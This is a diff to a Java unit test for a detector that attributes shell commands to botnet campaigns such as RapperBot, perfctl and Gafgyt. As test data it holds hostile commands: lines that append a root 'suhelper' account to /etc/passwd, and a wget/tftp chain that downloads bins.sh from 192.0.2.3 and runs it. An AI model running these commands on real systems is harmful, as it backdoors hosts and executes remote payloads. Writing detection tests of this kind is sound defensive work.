@@ -54,6 +54,13 @@ class CampaignsTest {
                 "/bin/busybox corona                     ! mirai",
                 "cd /tmp/.X25-unix/.rsync/c; nohup ./tsm -t 150 & ! outlaw-mdrfckr",
                 "busybox tftp -g -l x -r Mozi.a 192.0.2.3 ! mozi",
+                "echo 'suhelper:x:0:0::/:/bin/sh' >> /etc/passwd ! rapperbot",
+                "echo 'suhelper:x:0:0::/:/bin/sh' | tee -a /etc/passwd ! rapperbot",
+                "grep suhelper:x /etc/passwd || sed -i '$ a suhelper:x:0:0::/:/bin/sh' /etc/passwd ! rapperbot",
+                "export AAZHDE=1; grep AAZHDE= /proc/self/environ ! perfctl",
+                "AAZHDE=1 ./httpd                        ! perfctl",
+                "rm -f .i; cp .s .i; ls .s               ! hajime",
+                "sh tftp1.sh; sh tftp2.sh; sh ftp1.sh    ! gafgyt",
             })
     void namesKnownCampaigns(String command, String campaign) {
         Playbook playbook = of(command);
@@ -101,6 +108,25 @@ class CampaignsTest {
                 "busybox wget",
                 "busybox nmap",
                 "/bin/busybox python3",
+                "grep suhelper:x /etc/passwd",
+                "sudo grep -n suhelper:x /etc/passwd; id suhelper; userdel suhelper",
+                "getent passwd | egrep 'suhelper:x'",
+                "sed -i '/suhelper:x/d' /etc/passwd",
+                "echo 'no suhelper:x in here'",
+                "env | grep AAZHDE=",
+                "cat /proc/1/environ | tr '\\0' '\\n' | grep AAZHDE=",
+                "sh -c 'grep AAZHDE= /etc/environment'",
+                "ls tftp1.sh tftp2.sh ftp1.sh",
+                "rm -rf tftp1.sh tftp2.sh ftp1.sh; ls",
+                "ls -la tftp1.sh; find / -name tftp2.sh; rm -f ftp1.sh",
+                "grep 'cp .s .i' a.log",
+                "grep -c 'cat .s || cp /bin/echo .s' a.log",
+                "cat a.log | grep 'dd bs=52 count=1 if=.s || cat .s'",
+                "grep 'wget -qO - http://192.0.2.7/perl | perl' a.log",
+                "history | grep 'curl -sS 192.0.2.7/zed | perl'",
+                "echo \"echo -n 'GET /linux' >&6\"",
+                "wget http://192.0.2.3/bins.sh; sh bins.sh; tftp 192.0.2.3 -c get tftp1.sh; sh tftp1.sh; "
+                        + "tftp -r tftp2.sh -g 192.0.2.3; sh tftp2.sh; rm -rf bins.sh tftp1.sh tftp2.sh",
             })
     void namesNothingThatIsOnlyReadOrRemoved(String command) {
         assertThat(all(of(command))).isEmpty();
